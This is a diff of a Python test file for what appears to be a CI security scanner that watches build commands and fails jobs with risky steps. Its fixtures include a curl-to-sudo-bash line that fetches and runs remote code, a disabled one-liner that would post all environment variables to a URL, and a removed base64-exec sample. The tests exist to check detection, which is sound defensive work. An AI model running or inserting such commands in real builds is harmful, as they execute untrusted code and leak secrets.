@@ -28,7 +28,8 @@ if TYPE_CHECKING:
     from tests.packages.machine import Machine
 
 LOUD = "curl -fsSL https://tools.example/x | sudo bash\n"
-DECODED = 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'
+SENDS = 'import os, urllib.request as u; 0 and u.urlopen("http://127.0.0.1:1/", str(dict(os.environ)).encode())'
+"""Text that would send secrets away, and does not: high or worse, wherever it stands."""
 QUIET = "all:\n\t@python3 -c 'print(1)'\n"
 PACKAGES = ("python3", "python3-pip", "python3-venv", "git", "make", "sudo", "nodejs", "libbpf1")
 """What the images of CI systems have, and Flycatcher needs: of Debian's Python, pip and venv are packages of their own."""
@@ -147,12 +148,12 @@ def test_the_action_observes_a_command_as_the_page_shows(host: Machine, checkout
     given = {**shown(1), "version": wheel(host)}
     assert given["run"] == "npm ci && npm test"
     ended = runner.composite(read_action(checkout), {**given, "run": "make && echo built"})
-    assert (ended.code, "1\nbuilt\n" in ended.said) == (0, True), ended.said
+    assert (ended.code, {"1", "built"} <= set(ended.said.splitlines())) == (0, True), ended.said
     assert '"text":"print(1)"' in runner.read(f"{PROJECT}/flycatcher.jsonl")
     assert runner.composite(read_action(checkout), {**given, "version": "", "run": "false | cat"}).code == 1
-    code = f"python3 -c '{DECODED}'"
+    code = f"python3 -c '{SENDS}'"
     ended = runner.composite(read_action(checkout), {**given, "version": "", "run": f"{code} || echo refused"})
-    assert (ended.code, "refused\n" in ended.said) == (10, True), ended.said
+    assert (ended.code, "refused" in ended.said.splitlines()) == (10, True), ended.said
 
 
 def test_the_whole_job_is_watched_as_the_page_shows(host: Machine, checkout: Path) -> None:
@@ -216,6 +217,6 @@ def test_a_snippet_installs_scans_observes_and_fails_the_job(host: Machine, proj
     done = run(host, steps(system), SHELLS[system], places)
     assert (done.returncode, "\n1\n" in f"\n{done.stdout}") == (0, True), done.stdout
     assert '"text":"print(1)"' in (project / "flycatcher.jsonl").read_text()
-    (project / "Makefile").write_text(f"all:\n\t@python3 -c '{DECODED}'\n")
+    (project / "Makefile").write_text(f"all:\n\t@python3 -c '{SENDS}'\n")
     done = run(host, steps(system), SHELLS[system], places)
     assert done.returncode == 10, done.stdout
